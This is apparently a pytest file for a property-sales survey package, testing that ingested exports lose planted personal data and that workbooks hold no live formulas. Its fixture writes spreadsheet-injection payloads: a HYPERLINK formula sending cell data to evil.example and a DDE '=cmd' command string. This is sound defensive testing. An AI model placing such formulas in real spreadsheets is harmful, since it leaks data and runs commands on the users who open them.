"""Issue 13, findings 1 and 2 end to end: hostile exports (tests/hostile_gen.py) ingested,
then every output read back — the processed store, every workbook (openpyxl: no formula
cell, no text starting like one), report pages and run logs (no planted name / phone /
ID number in clear)."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import re
import shutil
from pathlib import Path

import hostile_gen as H
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

import dealresearch as dr
from dealresearch.cli.survey_plan import survey_plan_command
from dealresearch.fieldwork.followups import _header, export_followups
from dealresearch.ingest import textpii
from dealresearch.satisfaction.followup_list import FollowupColumns


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Path:
    data = tmp_path_factory.mktemp("hostile") / "data"
    deals, surveys = H.write_inputs(data / "raw")
    assert dr.ingest_deals([deals], store=data).summary["rows_clean"] == H.N_CUSTOMERS
    assert dr.ingest_surveys([surveys], store=data).summary["rows_clean"] == H.N_CUSTOMERS
    return data


def _texts_of_parquet(root: Path) -> list[tuple[str, str, str]]:
    out = []
    for path in sorted(root.rglob("*.parquet")):
        table = pq.read_table(path)
        for name in table.column_names:
            for v in table.column(name).to_pylist():
                for item in v if isinstance(v, list) else [v]:
                    if isinstance(item, str):
                        out.append((path.name, name, item))
    return out


# ------------------------------------------------------------------------ the store
def test_processed_store_holds_no_planted_personal_data(store):
    texts = _texts_of_parquet(store / "processed")
    assert len(texts) > 200  # the scan did read the tables
    leaks = [(f, c, v[:40], H.leaks(v)) for f, c, v in texts if H.leaks(v)]
    assert leaks == []


def test_every_free_text_column_was_masked(store):
    deals = dr.load("deals", store=store).set_index("deal_id")
    row = deals.loc["HT-0001"]  # customer 1: 张三丰; its free text names 欧阳娜娜 (customer 2)
    assert row["work_area"] == "滨江区 ***"
    assert row["industry"].startswith("金融") and row["industry"].endswith("***")
    assert "***" in row["occupation"] and not re.search(r"[0-9]", row["occupation"])
    assert row["residence_area"].startswith("****家附近")  # a 4-character known name
    comments = dr.load("surveys", store=store).set_index("survey_id")["comment"]
    assert comments["SV-0000"].startswith("我是**") and "漏水" in comments["SV-0000"]
    assert comments["SV-0001"].startswith("***说物业很差") and "***先生" in comments["SV-0001"]
    assert "$x$" in comments["SV-0004"]  # ordinary text is left alone
    assert "\x01" not in comments["SV-0007"] and "\x07" not in comments["SV-0007"]


def test_name_keys_are_keyed_hashes_never_names(store):
    keys = dr.load(textpii.NAME_TABLE, store=store)[textpii.NAME_KEY]
    assert keys.str.fullmatch(r"[0-9a-f]{32}").all()
    secret = os.environ["DEALRESEARCH_SECRET"].encode()
    for name in H.NAMES:  # every customer name is known by its keyed hash alone
        key = hmac.new(secret, f"{textpii.NAME_KIND}:{name}".encode(), hashlib.sha256).hexdigest()[:32]
        assert key in set(keys)
    raw = (store / "processed").rglob("*.parquet")
    assert not any("段伟".encode() in p.read_bytes() for p in raw)


# ------------------------------------------------------------------------ workbooks
def test_followup_list_has_no_formula_and_no_personal_data(store, tmp_path):
    out = tmp_path / "跟进.xlsx"
    fu = export_followups(dr.load("surveys", store=store), out, period="2026Q3", store=store)
    assert len(fu) == H.N_CUSTOMERS
    assert H.live_formula_cells(out) == []
    texts = H.workbook_texts(out)
    assert [t for t in texts if H.leaks(t)] == []
    assert any(t.startswith("'=HYPERLINK(") for t in texts)  # the payload is shown, as text
    cut = [t for t in texts if t.startswith("四万字的意见")]
    assert len(cut) == 1 and len(cut[0]) == 32_767 and cut[0].endswith("（已截断）")


def _returned_sheet(path: Path, ids: list[str]) -> Path:
    """A follow-up sheet as it comes back: a formula in 处理结果, formula-like text in 责任人."""
    book = openpyxl.Workbook()
    ws = book.active
    ws.append([_header(FollowupColumns.followup_id), _header(FollowupColumns.status), _header(FollowupColumns.result), _header(FollowupColumns.owner)])
    for i, fid in enumerate(ids, start=2):
        ws.append([fid, "处理中", None, None])
        ws.cell(i, 3).value = f'=HYPERLINK("http://evil.example/?d="&A{i},"x")'  # a live formula
        owner = ws.cell(i, 4)
        owner.value = "=cmd|' /C calc'!A0"
        owner.data_type = "s"  # typed text that starts like a formula
    book.save(path)
    return path


def test_returned_sheet_formulas_are_never_stored_nor_come_back(store, tmp_path):
    surveys = dr.load("surveys", store=store)
    first = export_followups(surveys, tmp_path / "a.xlsx", period="2026Q3", store=store)
    ids = list(first[FollowupColumns.followup_id].astype(str))[:3]
    assert H.live_formula_cells(returned := _returned_sheet(tmp_path / "回收.xlsx", ids))  # sanity
    export_followups(surveys, tmp_path / "b.xlsx", period="2026Q3", updates_path=returned, store=store)
    stored = dr.load("followup_updates", store=store)
    values = [str(v) for v in stored.astype(object).to_numpy().ravel() if isinstance(v, str)]
    assert not any("HYPERLINK" in v for v in values)  # the formula never reached the store
    assert not any(v.startswith(H.FORMULA_START) for v in values)
    assert "'=cmd|' /C calc'!A0" in values  # typed text kept, neutralised
    later = tmp_path / "c.xlsx"
    export_followups(surveys, later, period="2026Q3", store=store)
    assert H.live_formula_cells(later) == []


def test_survey_plan_workbook_with_contacts_has_no_formula(store, tmp_path):
    files = survey_plan_command(2027, store=store, out=tmp_path, include_contacts=True)
    assert files and all(H.live_formula_cells(out) == [] for out in files.values())
    texts = [t for out in files.values() for t in H.workbook_texts(out)]
    assert "'" + H.EVIL_NAME in texts  # the hostile customer name, shown as text
    assert "'" + H.EVIL_PROJECT in texts


def test_survey_plan_workbook_without_contacts_has_no_personal_data(store, tmp_path):
    files = survey_plan_command(2027, store=store, out=tmp_path, include_contacts=False)
    assert files and all(out.parent == tmp_path and H.live_formula_cells(out) == [] for out in files.values())
    assert [t for out in files.values() for t in H.workbook_texts(out) if H.leaks(t)] == []


def test_targets_template_has_no_formula(tmp_path):
    from dealresearch.fieldwork.targets_template import write_targets_template

    path = write_targets_template(tmp_path / "t.xlsx")
    assert H.live_formula_cells(path) == []
    assert len(H.workbook_texts(path)) > 20


# ------------------------------------------------------------------------ report pages
@pytest.mark.e2e
def test_satisfaction_report_pages_and_logs_hold_no_personal_data(store, tmp_path):
    from dealresearch.report import run_reports

    out = tmp_path / "reports"
    summary = run_reports("2026Q3", only=["satisfaction"], projects=[], data_dir=store, out_dir=out, jobs=1)
    assert [r.status for r in summary.reports] == ["ok"]
    pages = sorted(out.rglob("*.html"))
    logs = sorted(out.rglob("*.ipynb"))
    assert len(pages) == 3 and len(logs) == 1  # the page, the cockpit and the run-log page; the run log
    page = summary.reports[0].html.read_text(encoding="utf-8")
    assert "漏水" in page  # the customers' comments are published (masked)
    for path in pages + logs:
        text = path.read_text(encoding="utf-8")
        assert H.leaks(text) == [], path.name
        assert "\x00" not in text and "\x01" not in text
    for path in logs:
        json.loads(path.read_text(encoding="utf-8"))  # every log is a valid notebook file
    for r in summary.reports:  # names stay inside the period folder, bounded
        assert r.html.parent == summary.period_dir and len(r.html.name.encode()) <= 130
    shutil.rmtree(out)


def test_fixture_plants_every_kind(store):
    """The generator really plants what the scans look for (a scan of nothing proves nothing)."""
    raw = pd.read_csv(store / "raw" / "成交_hostile.csv", dtype=str)
    joined = " ".join(raw.fillna("").to_numpy().ravel())
    assert set(H.leaks(joined)) >= {*H.NAMES[:3], H.phone(1), H.id_number(1)}
    assert any(str(v).startswith(H.FORMULA_START) for v in raw["置业顾问"])


def test_an_id_starting_like_a_formula_round_trips(store, tmp_path):
    surveys = dr.load("surveys", store=store)
    surveys.loc[surveys.index[0], "survey_id"] = "-SV-0000"
    sheet = tmp_path / "list.xlsx"
    export_followups(surveys, sheet, period="2026Q3", store=tmp_path / "other")
    shown = H.workbook_texts(sheet)
    assert "'-SV-0000" in shown and H.live_formula_cells(sheet) == []
    returned = tmp_path / "back.xlsx"
    book = openpyxl.Workbook()
    book.active.append([_header(FollowupColumns.followup_id), _header(FollowupColumns.status)])
    book.active.append(["'-SV-0000", "处理中"])  # copied from the list as shown
    book.save(returned)
    fu = export_followups(
        surveys, tmp_path / "again.xlsx", period="2026Q3", updates_path=returned, store=tmp_path / "other"
    )
    assert fu.set_index(FollowupColumns.followup_id).loc["-SV-0000", FollowupColumns.status] == "处理中"
